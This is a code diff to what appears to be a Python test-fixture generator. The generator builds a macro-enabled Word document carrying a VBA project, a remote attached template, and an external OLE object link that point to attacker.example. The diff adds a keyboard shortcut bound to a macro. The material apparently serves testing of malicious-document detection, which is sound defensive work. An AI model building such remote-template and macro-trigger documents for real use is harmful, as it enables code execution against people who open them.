@@ -60,6 +60,7 @@ def docm() -> bytes:
     return zip_of({
         "[Content_Types].xml": _types(("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
                                       '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
+                                      '<Override PartName="/word/customizations.xml" ContentType="application/vnd.ms-word.keyMapCustomizations+xml"/>'
                                       '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'),
         "_rels/.rels": _rels(("rId1", f"{RT}/officeDocument", "word/document.xml", False)),
         "word/document.xml": document,
@@ -67,12 +68,16 @@ def docm() -> bytes:
             ("rId1", f"{MSRT}/vbaProject", "vbaProject.bin", False),
             ("rId2", f"{RT}/settings", "settings.xml", False),
             ("rId3", f"{RT}/hyperlink", "http://example.com/", True),
-            ("rId4", f"{RT}/oleObject", "http://attacker.example/x.docx", True)),
+            ("rId4", f"{RT}/oleObject", "http://attacker.example/x.docx", True),
+            ("rId5", f"{MSRT}/keyMapCustomizations", "customizations.xml", False)),
         "word/settings.xml": HEAD + f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
         "word/_rels/settings.xml.rels": _rels(("rId1", f"{RT}/attachedTemplate", "http://attacker.example/t.dotm", True)),
         "word/vbaProject.bin": VBA_PROJECT,
         "word/_rels/vbaProject.bin.rels": _rels(("rId1", f"{MSRT}/wordVbaData", "vbaData.xml", False)),
         "word/vbaData.xml": HEAD + '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
+        "word/customizations.xml": HEAD + '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
+                                          '<wne:keymaps><wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="PROJECT.MODULE1.RUN"/>'
+                                          '</wne:keymap></wne:keymaps></wne:tcg>',
     })
 
 
